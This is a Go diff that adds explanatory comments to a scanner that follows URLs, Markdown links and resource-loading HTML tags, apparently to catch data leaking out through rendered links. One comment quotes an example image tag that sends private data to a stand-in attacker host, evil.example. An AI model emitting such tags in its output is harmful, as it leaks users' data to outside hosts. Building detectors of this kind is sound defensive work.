@@ -124,6 +124,7 @@ func (t *trail) step(b byte) {
 	}
 }
 
+// stepText looks for the beginning of a URL.
 func (t *trail) stepText(b byte) {
 	if t.openTag(b) {
 		return
@@ -178,6 +179,8 @@ var loading = map[string]bool{"<img": true, "<image": true, "<script": true, "<i
 	"<object": true, "<embed": true, "<source": true, "<video": true, "<audio": true, "<track": true, "<form": true,
 	"<input": true, "<base": true, "<meta": true, "<svg": true, "<use": true, "<body": true, "<style": true}
 
+// stepURL looks for the end of a token, or of the quotes around it: <img src="https://evil.example/? [EMAIL_1]">
+// is one URL to a browser, spaces and all.
 func (t *trail) stepURL(b byte) {
 	switch {
 	case t.ends != 0 && (b == t.ends || b == '\n'),
@@ -189,6 +192,7 @@ func (t *trail) stepURL(b byte) {
 	t.prev = b
 }
 
+// stepDestination looks for the bracket that closes a Markdown link. Those inside it may nest.
 func (t *trail) stepDestination(b byte) {
 	switch b {
 	case '(':
@@ -206,6 +210,7 @@ func (t *trail) stepDestination(b byte) {
 	t.url.WriteByte(b)
 }
 
+// stepTag looks for the end of a tag that loads something.
 func (t *trail) stepTag(b byte) {
 	switch {
 	case t.quote != 0:
@@ -231,6 +236,7 @@ func (t *trail) leave(b byte) {
 	t.n = 0
 }
 
+// closer returns what ends a URL that stands behind this byte, 0 for white space.
 func closer(open byte) byte {
 	switch open {
 	case '"', '\'':
